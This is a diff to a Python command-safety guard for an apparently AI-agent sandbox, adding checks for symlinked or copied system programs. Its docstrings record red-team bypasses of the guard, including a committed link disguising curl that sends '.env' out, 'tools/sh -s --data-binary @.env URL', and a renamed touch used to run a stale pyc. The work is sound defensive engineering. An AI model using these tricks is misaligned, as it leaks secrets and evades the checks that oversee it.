@@ -295,35 +295,76 @@ def system_program(an: Analyzer, shown: str, cwd: str | None) -> str | None:
     the run made, which may write any file (``_may_write``), as it was judged before rt47: checks that read the line's
     text by program name (the pyc check's ``touch``, ``pymodules._SETS_TIMES``) do not see ``./tt`` as touch, and
     `cp /usr/bin/touch ./tt`, then `./tt -d 2020-01-01 m.py && python3 -c 'import m'` ran a stale pyc once rt47
-    judged ./tt as touch alone (tests/safety/test_redteam38_fixed.py's predicted hole)."""
+    judged ./tt as touch alone (tests/safety/test_redteam38_fixed.py's predicted hole).
+
+    rt48: a link that was in the workspace before the run (`tools/lint -> /usr/bin/curl`, committed in a repository
+    someone else wrote: git keeps links) is a name too, and what runs is its target: it was judged as an unknown
+    program `lint` and sent `.env`, run by its path, on PATH, through a chain of links, or as `./e curl …` (a link to
+    env). So is a copy found there (it was asked about only when its name was not one the guard reads). And a link or
+    copy named as a shell or an interpreter (`ln -s /usr/bin/curl tools/sh`, then `tools/sh -s --data-binary @.env
+    URL`) was judged as that shell, by its name, whoever made it. The same program under a versioned name
+    (`.venv/bin/python -> /usr/bin/python3.11`) is left to its name (``same_program``). Under another name it may
+    also write any file, whoever made it: `tt -> /usr/bin/touch` committed in a repository set m.py's time back and
+    the import after it on the line ran a stale pyc, as the lead's `cp /usr/bin/touch ./tt` did."""
     resolved = an.paths.resolve(shown, cwd)
     name = posixpath.basename(shown)
     if not any(resolved == w or resolved.startswith(w + "/") for w in an.paths.workspaces):
-        if not resolved.startswith(_SYSTEM_DIRS) or posixpath.basename(resolved) == name:
-            return None
-        base = an.paths.resolve(cwd, None) if cwd else (an.paths.workspaces[0] if an.paths.workspaces else "/")
-        literal = posixpath.normpath(posixpath.join(base, an.paths.expand_home(shown)))
-        if literal not in an.paths.links and _made_before_run(an, literal):
+        if not resolved.startswith(_SYSTEM_DIRS) or same_program(name, posixpath.basename(resolved)):
             return None
         _may_write(an, shown)
         return resolved
-    if placed_before_run(an, resolved):
-        return None
     with contextlib.suppress(OSError):
         for real in _hiding_programs().get(os.stat(resolved).st_size, ()):
-            if posixpath.basename(real) != name and real.startswith(_SYSTEM_DIRS) and filecmp.cmp(
+            if not same_program(name, posixpath.basename(real)) and real.startswith(_SYSTEM_DIRS) and filecmp.cmp(
                     resolved, real, shallow=False):
                 _may_write(an, shown)
                 return real
     return None
 
 
-def _made_before_run(an: Analyzer, literal: str) -> bool:
-    """Whether the link at ``literal`` itself (not what it points to) was there before the run began."""
-    since = an.paths.since
-    if since is None:
+MULTICALL = frozenset({"busybox", "toybox"})  # one program, many: which one runs is its argv[0]'s name
+
+
+def as_run(real: str, shown: str) -> list[str]:
+    """The words that a link or copy named ``shown`` of the system program ``real`` runs as: busybox and toybox run
+    the applet their name says (`ash`: `busybox ash`), git a command named `git-NAME` (`git-config`: `git config`);
+    any other program is itself, whatever it is called."""
+    name, base = posixpath.basename(shown), posixpath.basename(real)
+    if base in MULTICALL and name != base:
+        return [real, name]
+    if base == "git" and name.startswith("git-") and len(name) > 4:
+        return [real, name[4:]]
+    return [real]
+
+
+def own_file(an: Analyzer, shown: str, cwd: str | None) -> bool:
+    """Whether the path program ``shown`` is a file of its own (a script, or a compiled program of the workspace or
+    of the sandbox's scratch folder), not the system's program its name says. rt48: `tools/sh job`, `tools/env ls`,
+    `/tmp/sh job` and `./job` whose first line is `#!tools/sh` ran that file (a script that sent `.env`), and the
+    guard judged them by the names alone (a shell reading `job`, env running `ls`) and never read it. A link or copy
+    of another system program is ``system_program``'s; one of the same program (a virtualenv's `python`) is not."""
+    resolved = an.paths.resolve(shown, cwd)
+    if resolved.startswith(_SYSTEM_DIRS):
         return False
-    try:
-        return _changed_before(os.lstat(literal).st_ctime_ns, since)
-    except OSError:
+    if not any(resolved.startswith(w + "/") for w in an.paths.workspaces):
+        return True  # read as a script: one in the sandbox's scratch folder is asked about, others are not seen
+    if resolved not in an.written and not os.path.isfile(resolved):
         return False
+    with contextlib.suppress(OSError):
+        for real in _hiding_programs().get(os.stat(resolved).st_size, ()):
+            if same_program(posixpath.basename(shown), posixpath.basename(real)) and filecmp.cmp(
+                    resolved, real, shallow=False):  # `python3 -m venv --copies`: .venv/bin/python is python
+                return False
+    return True
+
+
+def same_program(shown: str, real: str) -> bool:
+    """Whether the names ``shown`` and ``real`` are one program's, up to a version (``python``, ``python3`` and
+    ``python3.11``; ``gcc-12`` and ``gcc``)."""
+    return shown == real or _unversioned(shown) == _unversioned(real)
+
+
+def _unversioned(name: str) -> str:
+    from macrohard.safety.argv import canonical_program
+
+    return canonical_program(name).rstrip("0123456789.-") or name
